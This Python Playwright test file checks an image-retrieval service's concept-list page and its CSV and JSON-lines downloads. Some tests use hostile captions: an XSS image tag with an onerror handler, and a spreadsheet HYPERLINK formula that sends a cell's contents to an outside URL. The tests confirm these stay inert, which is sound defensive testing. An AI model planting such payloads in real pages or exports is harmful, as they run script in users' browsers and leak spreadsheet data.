"""The page's concept lists and downloads in a real Chromium, with the real service behind it."""

from __future__ import annotations

import csv
import io
import json
from pathlib import Path

import httpx
import pytest
from PIL import Image
from playwright.sync_api import Page, expect

from index.encoder.model_spec import ModelSpec
from index.store.embed import EmbedConfig
from index.store.embedding_store import EmbeddingStore
from index.store.store_model import remember_model
from tests.conftest import embed_store
from tests.index.corpora import encode, write_tar
from tests.retrieval.service.page_steps import (
    column,
    retrieve_concepts,
    row_ids,
    search,
    status,
)
from tests.serving import Serve

MARKUP = "<img src=x onerror=\"document.title='run'\">"


FORMULA = '=HYPERLINK("https://example.org/?"&A1,"see, here")'


@pytest.fixture(scope="module")
def hostile_store(tiny_clip_dir: Path, tmp_path_factory: pytest.TempPathFactory) -> EmbeddingStore:
    """Two images whose captions try to be markup and a formula. No index: they are scanned."""
    folder = tmp_path_factory.mktemp("hostile")
    members: list[tuple[str, bytes]] = []
    for number, caption in enumerate((MARKUP, FORMULA)):
        image = encode(Image.new("RGB", (40, 40), (200, 40 * number, 90)), "JPEG")
        fields = json.dumps({"key": f"-{number}", "caption": caption, "url": "https://example.org/"}).encode()
        members += [(f"-{number}.jpg", image), (f"-{number}.txt", caption.encode()), (f"-{number}.json", fields)]
    write_tar(folder / "00000.tar", members)
    model = ModelSpec(model_dir=str(tiny_clip_dir))
    config = EmbedConfig(source=str(folder / "00000.tar"), out=str(folder / "store"), model=model, device="cpu")
    store = embed_store(config)
    remember_model(store.path, model)
    return store


def download(page: Page, button: str) -> str:
    with page.expect_download() as started:
        page.get_by_role("button", name=button).click()
    return Path(started.value.path()).read_bytes().decode("utf-8")


def test_a_concept_list_gives_a_row_of_results_for_each_concept(page: Page, url: str) -> None:
    retrieve_concepts(page, url)
    body = {"concepts": ["red circle", "blue square", "green circle"], "k": 4}
    lines = [json.loads(line) for line in httpx.post(f"{url}/concepts", json=body, timeout=20).text.splitlines()]
    expected = {line["name"]: [row["row_id"] for row in line["rows"]] for line in lines if line["type"] == "concept"}
    assert len(expected) == 3
    for name, ids in expected.items():
        column(page, name).scroll_into_view_if_needed()
        expect(column(page, name).locator(".card")).to_have_count(len(ids[:12]))
        assert row_ids(column(page, name)) == ids[:12]
    expect(status(page)).to_contain_text(f"{sum(map(len, expected.values()))} results for 3 concepts")


def test_a_concept_list_is_loaded_from_a_file(page: Page, url: str) -> None:
    page.goto(f"{url}/#concepts")
    listed = {"name": "list.txt", "mimeType": "text/plain", "buffer": b"red circle\r\nblue square\r\n"}
    page.get_by_label("Load a file").set_input_files(listed)  # type: ignore[arg-type]
    expect(page.get_by_label("Concepts, one name a line")).to_have_value("red circle\nblue square\n")
    expect(status(page)).to_contain_text("2 concepts")


def test_a_pasted_yaml_is_read_as_one_and_a_damaged_one_is_refused(page: Page, url: str) -> None:
    retrieve_concepts(
        page, url, "# two\nconcepts:\n  - red circle\n  - {name: blue square, id: 7, prompts: [a square]}\n"
    )
    expect(column(page, "red circle")).to_be_visible()
    expect(column(page, "blue square (7)")).to_be_visible()
    expect(page.locator("#concept-rows > section")).to_have_count(2)
    page.get_by_label("Concepts, one name a line").fill("concepts:\n  - {nome: red circle}\n")
    page.get_by_role("button", name="Retrieve").click()
    expect(page.get_by_text("line 2: unknown key 'nome'")).to_be_visible()


def test_what_is_unticked_is_not_in_the_download(page: Page, url: str) -> None:
    retrieve_concepts(page, url)
    before = list(csv.DictReader(io.StringIO(download(page, "Download CSV"))))
    unticked = column(page, "red circle").get_by_role("listitem").first
    first = int(unticked.get_attribute("data-row") or "")
    unticked.get_by_role("checkbox").uncheck()
    column(page, "blue square").get_by_role("checkbox", name="Keep the concept blue square").uncheck()
    after = list(csv.DictReader(io.StringIO(download(page, "Download CSV"))))
    assert {row["concept"] for row in before} == {"red circle", "blue square", "green circle"}
    kept = [row for row in before if row["concept"] != "blue square"]
    assert after == [row for row in kept if (row["concept"], row["row_id"]) != ("red circle", str(first))]
    assert len(after) == len(kept) - 1
    lines = [json.loads(line) for line in download(page, "Download JSON lines").splitlines()]
    assert [(row["concept"], row["row_id"]) for row in lines] == [(row["concept"], int(row["row_id"])) for row in after]
    column(page, "red circle").get_by_role("listitem").first.get_by_role("checkbox").check()
    column(page, "blue square").get_by_role("checkbox", name="Keep the concept blue square").check()
    assert list(csv.DictReader(io.StringIO(download(page, "Download CSV")))) == before


def test_a_concept_list_can_be_cancelled(page: Page, url: str) -> None:
    page.goto(f"{url}/#concepts")
    names = "\n".join(f"concept {number}" for number in range(250))
    page.get_by_label("Concepts, one name a line").fill(names)
    page.get_by_label("Prompts").select_option("openai_imagenet")
    page.get_by_role("button", name="Retrieve").click()
    expect(page.get_by_role("progressbar", name="Queries answered")).to_be_visible()
    with page.expect_event("requestfailed", lambda request: request.url.endswith("/concepts")):
        page.get_by_role("button", name="Cancel").click()
    expect(status(page)).to_contain_text("Cancelled")
    expect(page.get_by_role("progressbar")).to_be_hidden()
    expect(page.get_by_role("button", name="Cancel")).to_be_disabled()


def test_captions_are_text_in_the_page_and_inert_in_the_csv(
    page: Page, serve: Serve, hostile_store: EmbeddingStore
) -> None:
    with serve(hostile_store) as url:
        search(page, url)
        for found in (column(page, "Pictures"), column(page, "Captions")):
            assert {item.inner_text() for item in found.locator(".caption").all()} == {MARKUP, FORMULA}
            assert found.locator("img").count() == 2, "none but the thumbnails"
        assert "run" not in page.title()
        retrieve_concepts(page, url, "red circle\n=1+1")
        expect(column(page, "red circle").or_(column(page, "=1+1")).first).to_be_visible()
        text = download(page, "Download CSV")
        rows = list(csv.DictReader(io.StringIO(text)))
        assert {row["caption"] for row in rows} >= {f"'{FORMULA}", MARKUP}
        assert {row["key"] for row in rows} == {"'-0", "'-1"}
        assert {row["concept"] for row in rows} <= {"red circle", "'=1+1"}
        lines = [json.loads(line) for line in download(page, "Download JSON lines").splitlines()]
        assert {row["caption"] for row in lines} >= {FORMULA, MARKUP}, "JSON is read by programs: nothing is changed"


def test_no_spreadsheet_evaluates_a_cell(page: Page, url: str) -> None:
    """Every start that some spreadsheet takes for a formula; rows as a hostile store would send them."""
    starts = ["=", "+", "-", "@", "\t=", "\r=", " =", "\uff1d", "\uff0b", "\uff0d", "\uff20"]
    page.goto(url)
    text = page.evaluate(
        """async (starts) => {
            const {keptRows, toCsv} = await import("/page/selection.js");
            const caption = (start) => start + '1 "quoted", and more';
            const rows = starts.map((start, at) => ({row_id: at, score: -0.5, caption: caption(start)}));
            return toCsv(keptRows([{name: "plain", id: null, rows, kept: true, dropped: new Set()}]));
        }""",
        starts,
    )
    rows = list(csv.DictReader(io.StringIO(text, newline="")))
    assert [row["caption"] for row in rows] == [f'\'{start}1 "quoted", and more' for start in starts]
    assert {row["score"] for row in rows} == {"-0.5"}, "a number is a number"
    assert {row["concept"] for row in rows} == {"plain"}
